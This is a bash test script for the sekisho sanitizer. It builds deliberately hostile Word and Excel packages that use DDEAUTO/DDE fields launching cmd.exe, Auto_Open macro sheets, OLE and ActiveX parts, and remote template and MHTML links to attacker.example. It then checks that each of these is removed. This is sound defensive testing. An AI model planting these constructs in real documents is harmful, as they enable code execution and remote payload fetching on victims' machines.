#!/usr/bin/env bash
# OOXML end to end (TAP), checked with tools independent of sekisho:
#  - hostile packages made here with Python's zipfile, plus the mat2 corpus docx/xlsx,
#    go through `sekisho sanitize` (default profile, and strict for comments/revisions);
#  - `unzip -t/-l` and grep on the XML parts of every output find none of the removed
#    parts or markers;
#  - every delivered output opens in LibreOffice (headless conversion to PDF) and its
#    visible text (pdftotext) matches the original's.
# Usage: ooxml.sh SEKISHO SOURCE_ROOT
set -uo pipefail
sekisho=$1
src=$2
n=0
fails=0
ok() { n=$((n + 1)); echo "ok $n - $*"; }
notok() { n=$((n + 1)); fails=$((fails + 1)); echo "not ok $n - $*"; }
skip() { n=$((n + 1)); echo "ok $n - $* # SKIP"; }
check() { # description, command...
	local d=$1
	shift
	if "$@"; then ok "$d"; else notok "$d"; fi
}

tmp=$(mktemp -d /tmp/sekisho-ooxml.XXXXXX)
trap 'rm -rf "$tmp"' EXIT
mkdir -p "$tmp/in" "$tmp/out" "$tmp/strict" "$tmp/pdf-in" "$tmp/pdf-out" "$tmp/pdf-strict"

corpus="$src/../shared/corpus/office/mat2"
[ -d "$corpus" ] || corpus=/work/shared/corpus/office/mat2

# ---- inputs ---------------------------------------------------------------------------
python3 - "$tmp/in" <<'EOF'
import sys, zipfile
out = sys.argv[1]
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
OD = "application/vnd.openxmlformats-officedocument."
NS = ('xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="%s" '
      'xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:v="urn:schemas-microsoft-com:vml"' % R)

def ct(*ovr, defaults=""):
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>' + defaults +
            "".join('<Override PartName="%s" ContentType="%s"/>' % o for o in ovr) + "</Types>")

def rels(*rs):
    s = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
         '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">')
    for r in rs:
        rid, typ, tgt = r[:3]
        typ = typ if typ.startswith("http") else R + "/" + typ
        s += '<Relationship Id="%s" Type="%s" Target="%s"%s/>' % (
            rid, typ, tgt, ' TargetMode="External"' if len(r) > 3 else "")
    return s + "</Relationships>"

def save(name, files):
    with zipfile.ZipFile(out + "/" + name, "w", zipfile.ZIP_DEFLATED) as z:
        for n, d in files:
            z.writestr(n, d)

def p(t): return '<w:p><w:r><w:t xml:space="preserve">%s</w:t></w:r></w:p>' % t
def fld(instr, result):
    return ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">%s</w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>%s</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>' % (instr, result))

body = (p("Hostile document: 住民票の写しの交付申請について") +
        '<w:p><w:hyperlink r:id="rId20"><w:r><w:t>Example link</w:t></w:r></w:hyperlink></w:p>' +
        '<w:p><w:hyperlink r:id="rId21"><w:r><w:t>UNC link</w:t></w:r></w:hyperlink></w:p>' +
        fld(" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\" ", "DDE result") +
        '<w:p><w:fldSimple w:instr=" DDE cmd &quot;/c calc&quot; "><w:r><w:t>simple result</w:t></w:r></w:fldSimple></w:p>' +
        '<w:p><w:r><w:object><v:shape id="s1" style="width:10pt;height:10pt"/><o:OLEObject Type="Embed" ProgID="Package" ShapeID="s1" r:id="rId7"/></w:object></w:r></w:p>' +
        '<w:p><w:r><w:object><w:control r:id="rId8" w:name="CommandButton1"/></w:object></w:r></w:p>' +
        p("End of document."))
doc = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document %s><w:body>%s</w:body></w:document>' % (NS, body)
settings = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:settings %s>'
            '<w:attachedTemplate r:id="rId1"/><w:defaultTabStop w:val="720"/></w:settings>' % NS)
save("hostile.docm", [
    ("[Content_Types].xml", ct(("/word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"),
                               ("/word/settings.xml", OD + "wordprocessingml.settings+xml"),
                               ("/word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml"),
                               ("/word/vbaData.xml", "application/vnd.ms-word.vbaData+xml"),
                               ("/customUI/customUI14.xml", "application/xml"),
                               defaults='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>')),
    ("_rels/.rels", rels(("rId1", "officeDocument", "word/document.xml"),
                         ("rId2", "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility", "customUI/customUI14.xml"))),
    ("word/document.xml", doc),
    ("word/_rels/document.xml.rels", rels(
        ("rId1", "settings", "settings.xml"),
        ("rId5", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin"),
        ("rId7", "oleObject", "embeddings/oleObject1.bin"),
        ("rId8", "control", "activeX/activeX1.xml"),
        ("rId9", "oleObject", "mhtml:http://attacker.example/x.html!x-usc:http://attacker.example/x.html", "ext"),
        ("rId20", "hyperlink", "https://www.example.jp/", "ext"),
        ("rId21", "hyperlink", "file://attacker.example/share/x", "ext"))),
    ("word/settings.xml", settings),
    ("word/_rels/settings.xml.rels", rels(("rId1", "attachedTemplate", "http://attacker.example/t.dotm", "ext"))),
    ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504 + b"Attribute VB_Name AutoOpen"),
    ("word/_rels/vbaProject.bin.rels", rels(("rId1", "http://schemas.microsoft.com/office/2006/relationships/wordVbaData", "vbaData.xml"))),
    ("word/vbaData.xml", '<?xml version="1.0"?><wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>'),
    ("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504),
    ("word/activeX/activeX1.xml", '<?xml version="1.0"?><ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"/>'),
    ("customUI/customUI14.xml", '<customUI xmlns="http://schemas.microsoft.com/office/2009/07/customui" onLoad="AutoOpen"/>'),
])

X = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="%s"' % R
save("hostile_book.xlsm", [
    ("[Content_Types].xml", ct(("/xl/workbook.xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
                               ("/xl/worksheets/sheet1.xml", OD + "spreadsheetml.worksheet+xml"),
                               ("/xl/macrosheets/sheet2.xml", "application/vnd.ms-excel.macrosheet+xml"),
                               ("/xl/externalLinks/externalLink1.xml", OD + "spreadsheetml.externalLink+xml"),
                               ("/xl/connections.xml", OD + "spreadsheetml.connections+xml"),
                               ("/xl/sharedStrings.xml", OD + "spreadsheetml.sharedStrings+xml"))),
    ("_rels/.rels", rels(("rId1", "officeDocument", "xl/workbook.xml"))),
    ("xl/workbook.xml", '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><workbook %s><sheets>'
     '<sheet name="Data" sheetId="1" r:id="rId1"/><sheet name="Macro1" sheetId="2" state="veryHidden" r:id="rId2"/></sheets>'
     '<definedNames><definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName></definedNames>'
     '<externalReferences><externalReference r:id="rId3"/></externalReferences></workbook>' % X),
    ("xl/_rels/workbook.xml.rels", rels(("rId1", "worksheet", "worksheets/sheet1.xml"),
                                        ("rId2", "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "macrosheets/sheet2.xml"),
                                        ("rId3", "externalLink", "externalLinks/externalLink1.xml"),
                                        ("rId4", "connections", "connections.xml"),
                                        ("rId5", "sharedStrings", "sharedStrings.xml"))),
    ("xl/sharedStrings.xml", '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><sst %s count="2" uniqueCount="2">'
     '<si><t>予算額</t></si><si><t>Visible cell</t></si></sst>' % X),
    ("xl/worksheets/sheet1.xml", '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet %s><sheetData>'
     '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c></row>'
     '<row r="2"><c r="A2"><f>cmd|\'/c calc\'!A0</f><v>0</v></c><c r="B2"><v>1234</v></c></row>'
     '</sheetData></worksheet>' % X),
    ("xl/macrosheets/sheet2.xml", '<?xml version="1.0"?><xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main" xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><f>EXEC("calc")</f></c></row></sheetData></xm:macrosheet>'),
    ("xl/externalLinks/externalLink1.xml", '<?xml version="1.0"?><externalLink %s><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>' % X),
    ("xl/connections.xml", '<?xml version="1.0"?><connections %s><connection id="1" name="w" type="4"><webPr url="http://attacker.example/"/></connection></connections>' % X),
])
EOF
for f in "$corpus"/*.docx "$corpus"/*.xlsx; do
	[ -f "$f" ] || continue
	b=$(basename "$f")
	cp "$f" "$tmp/in/${b%.*}_${b##*.}.${b##*.}"
done
chmod u+w "$tmp/in"/*

# ---- sanitise ---------------------------------------------------------------------------
"$sekisho" sanitize --json --lang en -o "$tmp/out" "$tmp/in" >"$tmp/out.json" 2>"$tmp/err"
rc=$?
check "sanitize ran (exit $rc: 0 all delivered, 1 some blocked)" test $rc -le 1
"$sekisho" sanitize --json --lang en --profile strict -o "$tmp/strict" "$tmp/in" >"$tmp/strict.json" 2>>"$tmp/err"
rc=$?
check "sanitize --profile strict ran (exit $rc)" test $rc -le 1

# every input has a verdict; blocked ones a reason
python3 - "$tmp/out.json" "$tmp/in" <<'EOF' >"$tmp/verdicts"
import json, os, sys
res = [json.loads(l) for l in open(sys.argv[1]) if l.strip()]
seen = {os.path.basename(r["input"]) for r in res}
missing = set(os.listdir(sys.argv[2])) - seen
bad = [r for r in res if r["verdict"] == "blocked" and not r.get("reason")]
for r in res:
    print(os.path.basename(r["input"]), r["verdict"], r.get("reason") or "-")
sys.exit(1 if missing or bad else 0)
EOF
check "every input got a verdict, every block a reason" test $? -eq 0
sed 's/^/# /' "$tmp/verdicts"
check "hostile.docm delivered as hostile.docx" test -f "$tmp/out/hostile.docx"
check "hostile_book.xlsm delivered as hostile_book.xlsx" test -f "$tmp/out/hostile_book.xlsx"
check "embedded_corrupted.docx blocked as malformed" grep -q '^embedded_corrupted_docx.docx blocked malformed' "$tmp/verdicts"

# ---- independent check of the removals ------------------------------------------------------
shopt -s nullglob
outs=("$tmp/out"/*.docx "$tmp/out"/*.xlsx "$tmp/strict"/*.docx "$tmp/strict"/*.xlsx)
check "outputs were written" test ${#outs[@]} -ge 20
bad=0
for f in "${outs[@]}"; do
	if ! unzip -tq "$f" >/dev/null 2>&1; then
		echo "# unzip -t fails: $f"
		bad=1
	fi
done
check "unzip -t: every output is an intact ZIP" test $bad -eq 0

bad=0
for f in "${outs[@]}"; do
	if unzip -l "$f" | grep -Eiq 'vbaProject|vbaData|activeX|embeddings/|oleObject|customUI|externalLink|connections\.xml|macrosheets|queryTable'; then
		echo "# removed part listed in $f:"
		unzip -l "$f" | grep -Ei 'vbaProject|vbaData|activeX|embeddings/|oleObject|customUI|externalLink|connections\.xml|macrosheets|queryTable' | sed 's/^/#   /'
		bad=1
	fi
done
check "unzip -l: no VBA, ActiveX, OLE, custom UI, external link, connection, macro sheet part" test $bad -eq 0

bad=0
for f in "${outs[@]}"; do
	x=$(unzip -p "$f" '*.xml' '*.rels' '*.vml' 2>/dev/null)
	for m in vbaProject OLEObject oleObj 'w:control ' DDEAUTO 'instrText xml:space="preserve"> DDE' attachedTemplate \
		ddeLink 'ppaction://program' macroEnabled 'cmd|' 'Auto_Open' 'mhtml:' 'attacker.example'; do
		if grep -qF -- "$m" <<<"$x"; then
			echo "# $f still contains $m"
			bad=1
		fi
	done
	# external relationships: only http(s)/mailto hyperlinks
	ext=$(unzip -p "$f" '*.rels' 2>/dev/null | grep -o '<Relationship [^>]*TargetMode="External"[^>]*>' |
		grep -v 'relationships/hyperlink"' )
	ext2=$(unzip -p "$f" '*.rels' 2>/dev/null | grep -o '<Relationship [^>]*TargetMode="External"[^>]*>' |
		grep -Ev 'Target="(https?://|mailto:)' )
	if [ -n "$ext$ext2" ]; then
		echo "# $f keeps an external relationship: $ext $ext2"
		bad=1
	fi
done
check "grep: no removed marker in any XML part; external targets are web/mail hyperlinks only" test $bad -eq 0

x=$(unzip -p "$tmp/out/hostile.docx" word/_rels/document.xml.rels)
check "the https hyperlink is kept" grep -qF 'https://www.example.jp/' <<<"$x"
x=$(unzip -p "$tmp/out/hostile.docx" '[[]Content_Types].xml')
check "the docm became a docx (content type)" grep -qF 'wordprocessingml.document.main+xml' <<<"$x"
x=$(unzip -p "$tmp/out/comment_docx.docx" word/document.xml)
check "default profile keeps comments" grep -q 'commentReference' <<<"$x"
check "strict profile removes comments" bash -c "! unzip -l '$tmp/strict/comment_docx.docx' | grep -q comments"
x=$(unzip -p "$tmp/strict/revision_docx.docx" word/document.xml)
check "strict profile accepts tracked changes" bash -c "! grep -Eq '<w:(ins|del) ' <<<'$x'"
x=$(unzip -p "$tmp/out/dirty_docx.docx" docProps/core.xml 2>/dev/null; unzip -p "$tmp/out/dirty_docx.docx" docProps/app.xml 2>/dev/null)
check "metadata: no creator, last modified by, company" bash -c "! grep -Eq 'dc:creator|lastModifiedBy|<Company>' <<<'$x'"

# ---- fidelity: LibreOffice opens every output, the visible text is kept -----------------------
if ! command -v soffice >/dev/null || ! command -v pdftotext >/dev/null; then
	skip "LibreOffice / pdftotext not installed"
else
	prof="file://$tmp/lo-profile"
	lo() { # outdir files...
		local d=$1
		shift
		timeout 600 soffice -env:UserInstallation="$prof" --headless --convert-to pdf --outdir "$d" "$@" \
			>>"$tmp/lo.log" 2>&1
	}
	dl=("$tmp/out"/*.docx "$tmp/out"/*.xlsx)
	st=("$tmp/strict"/*.docx "$tmp/strict"/*.xlsx)
	lo "$tmp/pdf-in" "$tmp/in"/*
	lo "$tmp/pdf-out" "${dl[@]}"
	lo "$tmp/pdf-strict" "${st[@]}"
	bad=0
	for f in "${dl[@]}" "${st[@]}"; do
		b=$(basename "${f%.*}")
		d=pdf-out
		[[ $f == "$tmp/strict/"* ]] && d=pdf-strict
		if [ ! -s "$tmp/$d/$b.pdf" ]; then
			echo "# LibreOffice could not open $f"
			bad=1
		fi
	done
	check "LibreOffice opens every delivered output (${#dl[@]} default, ${#st[@]} strict)" test $bad -eq 0

	norm() { pdftotext -layout "$1" - 2>/dev/null | tr -s ' \t\n\f' ' ' | sed 's/^ //; s/ $//'; }
	bad=0
	compared=0
	wt() { unzip -p "$1" word/document.xml 2>/dev/null | grep -o '<w:t[^>]*>[^<]*</w:t>' | sed 's/<[^>]*>//g'; }
	for f in "${dl[@]}"; do
		b=$(basename "${f%.*}")
		o="$tmp/pdf-out/$b.pdf"
		i="$tmp/pdf-in/$b.pdf"
		[ -s "$o" ] || continue
		case $b in hostile*) continue ;; esac # active content removed: checked below
		compared=$((compared + 1))
		if [ -s "$i" ]; then
			if [ "$(norm "$i")" != "$(norm "$o")" ]; then
				echo "# visible text differs: $b"
				diff <(norm "$i" | tr ' ' '\n') <(norm "$o" | tr ' ' '\n') | head -5 | sed 's/^/#   /'
				bad=1
			fi
		else
			# LibreOffice cannot open the original (a broken package): the text runs of
			# its main document must all be in the output, in the same order
			orig=$(ls "$tmp/in/$b".* | head -1)
			if [ "$(wt "$orig" | md5sum)" != "$(wt "$f" | md5sum)" ]; then
				echo "# text runs differ: $b"
				bad=1
			fi
			echo "# $b: original does not open in LibreOffice; its $(wt "$orig" | wc -l) text runs compared"
		fi
	done
	check "visible text of $compared corpus outputs matches the original (pdftotext)" test $bad -eq 0
	t=$(pdftotext "$tmp/pdf-out/hostile.pdf" - | tr -s ' \n' ' ')
	bad=0
	for w in "住民票の写しの交付申請について" "Example link" "UNC link" "DDE result" "simple result" "End of document."; do
		grep -qF -- "$w" <<<"$t" || { echo "# hostile.docx lost: $w"; bad=1; }
	done
	t=$(pdftotext "$tmp/pdf-out/hostile_book.pdf" - | tr -s ' \n' ' ')
	for w in "予算額" "Visible cell" "1234"; do
		grep -qF -- "$w" <<<"$t" || { echo "# hostile_book.xlsx lost: $w"; bad=1; }
	done
	check "hostile files keep their visible text (Japanese included)" test $bad -eq 0
fi

echo "1..$n"
[ $fails -eq 0 ]
